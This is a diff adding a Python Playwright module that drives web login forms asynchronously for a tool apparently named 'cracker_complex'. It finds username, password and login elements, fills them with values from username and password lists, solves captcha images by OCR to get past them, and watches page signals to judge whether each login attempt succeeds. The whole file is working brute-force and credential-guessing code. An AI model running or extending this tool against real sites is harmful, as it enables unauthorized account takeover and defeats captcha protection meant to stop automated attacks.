@@ -0,0 +1,159 @@
+import asyncio
+import time
+from playwright.async_api import TimeoutError as PlaywrightTimeoutError
+import config
+import cracker_complex as sync_impl
+from cracker_complex import (
+    DISCOVER_JS, OUTCOME_MARK_JS, OUTCOME_WAIT_JS, cached_selectors, discovery_args,
+    resolve_selectors, record_outcome
+)
+from utils import logger, get_ocr_result
+from fingerprint import FINGERPRINT_JS, fingerprint_from_js
+import login_flow
+from login_flow import run_flow_async
+
+async def safe_fill(element, value):
+    try:
+        await element.wait_for(state="visible", timeout=2000)
+        await element.fill("")
+        await element.fill(value)
+        return True
+    except Exception:
+        return False
+
+async def get_captcha_code(page, captcha_img):
+    try:
+        if not await captcha_img.is_visible():
+            await captcha_img.scroll_into_view_if_needed(timeout=1000)
+        if not await captcha_img.is_visible():
+            return ""
+        captcha_bytes = await captcha_img.screenshot(timeout=2000)
+        return await asyncio.get_running_loop().run_in_executor(None, get_ocr_result, captcha_bytes)
+    except Exception as e:
+        logger.warning(f"Get captcha failed: {e}")
+        return ""
+
+async def discover_elements(page, url=None):
+    cached = cached_selectors(url)
+    try:
+        handle = await page.wait_for_function(DISCOVER_JS, arg=discovery_args(cached), timeout=config.DISCOVERY_TIMEOUT_MS, polling=config.DISCOVERY_POLL_MS)
+        found = await handle.json_value()
+    except PlaywrightTimeoutError:
+        return None
+    return resolve_selectors(found, cached, url)
+
+async def mark_login_outcome(page):
+    try:
+        return await page.evaluate(OUTCOME_MARK_JS, config.ERROR_ELEMENT_SELECTORS)
+    except Exception:
+        return None
+
+async def wait_for_login_outcome(page, url, mark):
+    start = time.perf_counter()
+    signal = "timeout"
+    try:
+        if mark is None:
+            await page.wait_for_timeout(config.OUTCOME_TIMEOUT_MS)
+        else:
+            handle = await page.wait_for_function(OUTCOME_WAIT_JS, arg=mark, timeout=config.OUTCOME_TIMEOUT_MS, polling=config.OUTCOME_POLL_MS)
+            signal = await handle.json_value()
+    except PlaywrightTimeoutError:
+        pass
+    except Exception:
+        signal = "navigation"
+    remaining = config.OUTCOME_TIMEOUT_MS - (time.perf_counter() - start) * 1000
+    try:
+        if signal == "navigation" and remaining > 0:
+            await page.wait_for_load_state("domcontentloaded", timeout=remaining)
+        elif signal in ("xhr", "error_element"):
+            await page.wait_for_timeout(config.OUTCOME_SETTLE_MS)
+    except Exception:
+        pass
+    record_outcome(url, signal, (time.perf_counter() - start) * 1000)
+    return signal
+
+class AsyncPageSteps:
+    """Async Playwright calls behind the steps yielded by ``login_flow``."""
+
+    TimeoutError = PlaywrightTimeoutError
+
+    def __init__(self, page, context):
+        self.page = page
+        self.context = context
+
+    async def goto(self, url, wait_until="load"):
+        await self.page.goto(url, wait_until=wait_until)
+
+    async def wait_load(self, state):
+        await self.page.wait_for_load_state(state)
+
+    async def wait(self, ms):
+        await self.page.wait_for_timeout(ms)
+
+    async def discover(self, url):
+        return await discover_elements(self.page, url)
+
+    async def form_ready(self, elements, timeout):
+        user_input, pass_input, login_btn = elements
+        try:
+            return await user_input.is_editable(timeout=timeout) and await pass_input.is_editable(timeout=timeout) and await login_btn.is_enabled(timeout=timeout)
+        except Exception:
+            return False
+
+    async def clear_cookies(self):
+        await self.context.clear_cookies()
+
+    async def count(self, selector):
+        return await self.page.locator(selector).count()
+
+    async def content(self):
+        return await self.page.content()
+
+    async def fingerprint(self):
+        return fingerprint_from_js(await self.page.evaluate(FINGERPRINT_JS, config.ERROR_ELEMENT_SELECTORS))
+
+    async def fill(self, element, value):
+        return await safe_fill(element, value)
+
+    async def captcha(self, captcha_img):
+        return await get_captcha_code(self.page, captcha_img)
+
+    async def click(self, element, timeout):
+        await element.click(timeout=timeout)
+
+    async def dispatch_click(self, element):
+        await element.dispatch_event("click")
+
+    async def mark_outcome(self):
+        return await mark_login_outcome(self.page)
+
+    async def wait_outcome(self, url, mark):
+        return await wait_for_login_outcome(self.page, url, mark)
+
+    async def acquire(self, controller):
+        return await controller.acquire_async()
+
+    async def blocking(self, fn, *args):
+        return await asyncio.to_thread(fn, *args)
+
+    async def lock(self, target):
+        await target.data.setdefault("baseline_lock", asyncio.Lock()).acquire()
+
+    async def unlock(self, target):
+        target.data["baseline_lock"].release()
+
+    async def trace_start(self):
+        await self.context.tracing.start(screenshots=True, snapshots=True)
+
+    async def trace_stop(self):
+        await self.context.tracing.stop()
+
+    async def trace_chunk(self, title):
+        await self.context.tracing.start_chunk(title=title)
+
+    async def trace_chunk_end(self, path):
+        await self.context.tracing.stop_chunk(path=path)
+
+async def crack_chunk(page, context, task, usernames, passwords, results, run_key=None):
+    steps = AsyncPageSteps(page, context)
+    await run_flow_async(login_flow.crack_chunk(steps, task, usernames, passwords, results, run_key, lambda: sync_impl.STOP_FLAG), steps)